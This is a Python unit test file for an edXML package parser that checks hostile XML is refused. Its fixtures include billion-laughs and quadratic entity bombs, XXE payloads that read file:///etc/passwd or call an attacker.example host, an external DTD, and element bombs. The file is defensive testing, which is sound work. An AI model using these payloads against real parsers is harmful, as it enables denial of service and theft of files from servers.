"""Hostile XML is refused with a clear error, and without expanding or fetching anything."""

import resource
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from exchange.edxml.errors import EdxmlError, HostileXml, NotWellFormed, PackageTooLarge
from exchange.edxml.package import parse_package
from exchange.edxml.parser import Limits, parse_xml

REPO = Path(__file__).resolve().parents[2]

NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&lol9;</edXML>
"""


def quadratic_blowup() -> bytes:
    entity = "A" * 100_000
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE edXML [<!ENTITY a "{entity}">]>\n'
        f'<edXML xmlns="{NS}">{"&a;" * 20_000}</edXML>'
    ).encode()


def external_entity(system_id: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE edXML [<!ENTITY ext SYSTEM "{system_id}">]>\n'
        f'<edXML xmlns="{NS}">&ext;</edXML>'
    ).encode()


EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n<!DOCTYPE edXML SYSTEM "http://attacker.example/evil.dtd">\n'
    f'<edXML xmlns="{NS}"/>'
).encode()


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        quadratic_blowup(),
        external_entity("file:///etc/passwd"),
        external_entity("http://attacker.example/secret"),
        EXTERNAL_DTD,
    ],
    ids=["billion-laughs", "quadratic-blowup", "xxe-file", "xxe-http", "external-dtd"],
)
def test_doctype_attacks_are_refused_without_expansion(data: bytes) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(HostileXml) as refused:
        parse_package(data)
    assert refused.value.code == "hostile_xml"
    assert "DOCTYPE" in refused.value.message
    assert refused.value.details[0].line == 2  # the DOCTYPE follows the XML declaration
    # Nothing was expanded or fetched: no memory growth, and no file content in the error.
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000  # KiB
    assert "root:" not in str(refused.value.as_dict())


def test_deep_nesting_is_refused_with_its_place() -> None:
    depth = 5_000
    data = f'<edXML xmlns="{NS}">'.encode() + b"<a>" * depth + b"</a>" * depth + b"</edXML>"
    with pytest.raises((HostileXml, NotWellFormed)) as refused:
        parse_package(data)
    assert "deep" in str(refused.value.as_dict()).lower() or "depth" in str(refused.value.as_dict()).lower()

    moderately = f'<edXML xmlns="{NS}">'.encode() + b"<a>" * 60 + b"</a>" * 60 + b"</edXML>"
    with pytest.raises(HostileXml, match="nested deeper than 40") as too_deep:
        parse_package(moderately)
    assert too_deep.value.details[0].line == 1
    assert too_deep.value.details[0].path is not None


def test_a_text_node_over_the_limit_is_refused() -> None:
    data = f'<edXML xmlns="{NS}"><x>{"A" * 2_000}</x></edXML>'.encode()
    with pytest.raises(HostileXml, match="text node is longer than 1000") as refused:
        parse_xml(data, Limits(max_text_chars=1_000))
    assert refused.value.details[0].path == "/edXML/x"
    parse_xml(data, Limits(max_text_chars=2_000))  # at the limit is fine


def test_too_many_elements_and_too_many_bytes_are_refused() -> None:
    data = f'<edXML xmlns="{NS}">{"<x/>" * 500}</edXML>'.encode()
    with pytest.raises(HostileXml, match="more than 100 elements"):
        parse_xml(data, Limits(max_elements=100))
    with pytest.raises(PackageTooLarge) as too_large:
        parse_xml(data, Limits(max_bytes=100))
    assert too_large.value.status == 413


def test_other_encodings_are_refused() -> None:
    data = f'<?xml version="1.0" encoding="ISO-8859-1"?><edXML xmlns="{NS}"/>'.encode()
    with pytest.raises(NotWellFormed, match="UTF-8"):
        parse_xml(data)


def test_a_foreign_root_is_not_a_package() -> None:
    with pytest.raises(EdxmlError, match="root element must be edXML") as refused:
        parse_package(b"<html><body/></html>")
    assert refused.value.details[0].line == 1


def _element_bomb(total_bytes: int, counter: list[int]) -> Iterator[bytes]:
    """``total_bytes`` of ``<a/>`` in pieces, made only as the parser asks for them."""
    yield f'<edXML xmlns="{NS}">'.encode()
    piece = b"<a/>" * 16_384
    for _ in range(total_bytes // len(piece)):
        counter[0] += len(piece)
        yield piece
    yield b"</edXML>"


def test_an_element_bomb_is_refused_at_the_limit_without_reading_the_rest() -> None:
    pulled = [0]
    limits = Limits(max_elements=10_000)
    with pytest.raises(HostileXml, match="more than 10000 elements"):
        parse_xml(_element_bomb(50 * 1024 * 1024, pulled), limits)
    # 10,000 elements are 40 KB: the parser stopped within one piece of the limit, not at 50 MB.
    assert pulled[0] <= 10_001 * 4 + 2 * 16_384 * 4


def test_the_parser_stops_reading_a_file_at_the_first_limit(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xml"
    with bomb.open("wb") as out:
        for piece in _element_bomb(20 * 1024 * 1024, [0]):
            out.write(piece)
    with bomb.open("rb") as source:
        with pytest.raises(HostileXml):
            parse_xml(source)
        read = source.tell()
    assert read < 1024 * 1024  # of 20 MB


def test_a_refused_element_bomb_costs_memory_for_the_limit_not_the_input() -> None:
    """In a fresh process (the peak is per process): 50 MB of elements, fed as a body arrives."""
    script = (
        "from tests.unit.test_edxml_hostile import _element_bomb\n"
        "from exchange.edxml.parser import FeedParser\n"
        "from exchange.edxml.errors import HostileXml\n"
        "def hwm():\n"
        "    return next(int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM'))\n"
        "before = hwm(); parser = FeedParser()\n"
        "try:\n"
        "    for piece in _element_bomb(50 * 1024 * 1024, [0]):\n"
        "        parser.feed(piece)\n"
        "    parser.close()\n"
        "except HostileXml:\n"
        "    print(hwm() - before, parser.consumed)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True, cwd=REPO, timeout=60
    )
    growth_kib, consumed = (int(value) for value in done.stdout.split())
    assert consumed < 512 * 1024  # bytes handed to libxml2, of 50 MB
    assert growth_kib < 32 * 1024  # the whole input would be 1.3 GB of tree


def test_too_many_attributes_on_one_element_are_refused() -> None:
    attributes = " ".join(f'a{n}="x"' for n in range(100))
    data = f'<edXML xmlns="{NS}"><x {attributes}/></edXML>'.encode()
    with pytest.raises(HostileXml, match="more than 64 attributes") as refused:
        parse_xml(data)
    assert refused.value.details[0].path == "/edXML/x"
    parse_xml(data, Limits(max_attributes=100))


def test_a_tail_text_over_the_limit_is_refused() -> None:
    data = f'<edXML xmlns="{NS}"><x/>{"A" * 2_000}</edXML>'.encode()
    with pytest.raises(HostileXml, match="text node is longer than 1000"):
        parse_xml(data, Limits(max_text_chars=1_000))
